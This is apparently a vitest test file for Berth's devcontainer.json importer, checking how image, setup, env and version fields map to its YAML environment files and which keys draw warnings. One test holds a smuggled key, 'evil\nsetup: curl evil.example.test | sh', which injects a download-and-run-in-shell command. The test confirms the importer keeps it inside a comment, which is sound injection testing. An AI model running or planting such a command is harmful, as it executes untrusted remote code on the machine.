import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { importDevcontainer } from '../../src/domain/environment/devcontainer-import.js';
import { parseEnvironmentFile } from '../../src/domain/environment/environment-file.js';

/**
 * Devcontainer import (issue 16 item 3) of three real-world shaped files (JSONC with comments and
 * trailing commas): image-based, Dockerfile-based, with features. What maps is in the file; every
 * key that does not is a warning; the file written is a valid environment file.
 */

const fixture = (name: string) =>
  readFileSync(
    new URL(`../fixtures/devcontainer/${name}/devcontainer.json`, import.meta.url),
    'utf8',
  );
const repository = 'https://git.example.test/acme/app.git';

describe('berth env import --devcontainer', () => {
  it('image-based: image, postCreateCommand, updateContentCommand, containerEnv; ports and customizations warned', () => {
    const text = fixture('image-based');
    expect(text).toMatch(/",\n\t},/); // a trailing comma, as VS Code writes it
    const result = importDevcontainer(text, {
      name: 'shop',
      source: '.devcontainer/devcontainer.json',
      repository,
    });
    expect(result.spec).toEqual({
      name: 'shop',
      description: 'Node.js & TypeScript (imported from .devcontainer/devcontainer.json)',
      repository,
      image: 'mcr.microsoft.com/devcontainers/typescript-node:1-20-bullseye',
      setup: 'npm ci',
      maintenance: 'npm run build',
      env: { NODE_ENV: 'development' },
    });
    expect(result.warnings).toEqual([
      "image: mcr.microsoft.com/devcontainers/typescript-node:1-20-bullseye must be on the Berth host's engine (docker pull mcr.microsoft.com/devcontainers/typescript-node:1-20-bullseye); Berth does not pull images",
      'containerEnv.HOST_HOME: ${localEnv:HOME} is a devcontainer substitution Berth does not make, left out',
      'forwardPorts: ports are not forwarded (a sandbox has no inbound ports)',
      'customizations: editor settings and extensions do not apply to a sandbox',
    ]);
    // The file written parses as an environment file, the warnings as comments above it.
    const spec = parseEnvironmentFile(result.yaml, 'shop.yaml');
    expect(spec.image).toBe('mcr.microsoft.com/devcontainers/typescript-node:1-20-bullseye');
    expect(result.yaml).toMatch(/^# Imported from .*\n# Not mapped .*\n# - image: /);
  });

  it('Dockerfile-based: the image the Dockerfile makes, onCreate then postCreate (object form) as setup; mounts, runArgs, users, postStart warned', () => {
    const result = importDevcontainer(fixture('dockerfile-based'), {
      name: 'api',
      source: '.devcontainer/devcontainer.json',
      repository,
      folder: '.devcontainer',
    });
    expect(result.spec.image).toBe('api-devcontainer');
    expect(result.spec.setup).toBe(
      [
        'pip install --user -r requirements.txt',
        '# migrate',
        'python manage.py migrate',
        '# fixtures',
        "python manage.py loaddata 'dev users.json'",
      ].join('\n'),
    );
    expect(result.spec.env).toEqual({
      PYTHONUNBUFFERED: '1',
      DATABASE_URL: 'postgres://localhost/app',
    });
    expect(result.warnings).toEqual([
      'build.context: Berth builds a Dockerfile with its own folder as the context only; build this one on the Berth host first: docker build -t api-devcontainer --build-arg VARIANT=3.12-bookworm -f .devcontainer/Dockerfile .devcontainer/..',
      'postCreateCommand: its 2 commands run one after another in Berth (devcontainers runs them in parallel)',
      'containerEnv.HTTP_PROXY: set by Berth, left out',
      'remoteEnv: remoteEnv is not mapped (containerEnv is): move what setup and the agent need to containerEnv',
      'mounts: host mounts are not given to a sandbox',
      'runArgs: docker run arguments are not passed (Berth sets the sandbox up)',
      'remoteUser: Berth chooses the sandbox user',
      'postStartCommand: runs at every start in devcontainers; put it in maintenance or setup by hand',
    ]);
    expect(parseEnvironmentFile(result.yaml, 'api.yaml').setup?.script).toContain(
      'manage.py migrate',
    );
  });

  it('with features: a pinned language feature becomes versions; the rest of the features listed', () => {
    const result = importDevcontainer(fixture('with-features'), {
      name: 'svc',
      source: 'devcontainer.json',
      repository,
    });
    expect(result.spec.versions).toEqual({ go: '1.22' });
    expect(result.spec.setup).toBe('go mod download && go install gotest.tools/gotestsum@latest');
    expect(result.warnings).toEqual([
      "image: mcr.microsoft.com/devcontainers/base:bookworm must be on the Berth host's engine (docker pull mcr.microsoft.com/devcontainers/base:bookworm); Berth does not pull images",
      'features.ghcr.io/devcontainers/features/node:1: no pinned version ("lts"): set versions.node by hand',
      'features.ghcr.io/devcontainers/features/node:1.nodeGypDependencies: feature options are not mapped',
      'features.ghcr.io/devcontainers/features/docker-in-docker:2: features are not installed by Berth; install it in setup (or an image)',
      'features.ghcr.io/devcontainers/features/github-cli:1: features are not installed by Berth; install it in setup (or an image)',
      'hostRequirements: not mapped: set resources (cpus, memoryMb, diskMb) by hand',
      'forwardPorts: ports are not forwarded (a sandbox has no inbound ports)',
      'portsAttributes: ports are not forwarded (a sandbox has no inbound ports)',
      'customizations: editor settings and extensions do not apply to a sandbox',
    ]);
    expect(parseEnvironmentFile(result.yaml, 'svc.yaml').versions).toEqual({ go: '1.22' });
  });

  it('a Dockerfile whose own folder is the context becomes image: { dockerfile } (built by Berth)', () => {
    const result = importDevcontainer(
      '{ "build": { "dockerfile": "Dockerfile", "args": { "V": "1" } }, "postCreateCommand": "make", }',
      {
        name: 'own',
        source: '.devcontainer/devcontainer.json',
        repository,
        folder: '.devcontainer',
      },
    );
    expect(result.spec.image).toEqual({ dockerfile: '.devcontainer/Dockerfile' });
    expect(result.warnings).toEqual([
      'build.dockerfile: built by Berth without network (RUN steps cannot download; see Custom images)',
      'build.args: not mapped (Berth passes no build arguments)',
    ]);
    expect(parseEnvironmentFile(result.yaml, 'own.yaml').image).toBe(
      'dockerfile:.devcontainer/Dockerfile',
    );
  });

  it('without a repository: a placeholder and a warning; hostile keys stay inside their comment', () => {
    const result = importDevcontainer(
      '{ "image": "x", "evil\\nsetup: curl evil.example.test | sh": 1 }',
      { name: 'x', source: 'd.json' },
    );
    expect(result.warnings[0]).toMatch(/^repository: .*replace the placeholder/);
    const value = parseYaml(result.yaml) as Record<string, unknown>;
    expect(value.setup).toBeUndefined();
    expect(result.yaml).toContain('# - evil\\u000asetup: curl');
  });

  it('refuses what is not JSONC, with line and column', () => {
    expect(() =>
      importDevcontainer('{\n  "image": "x"\n  "name": "y"\n}', { name: 'x', source: 'd.json' }),
    ).toThrow(/d\.json: not a devcontainer file: CommaExpected \(line 3, column 3\)/);
  });
});
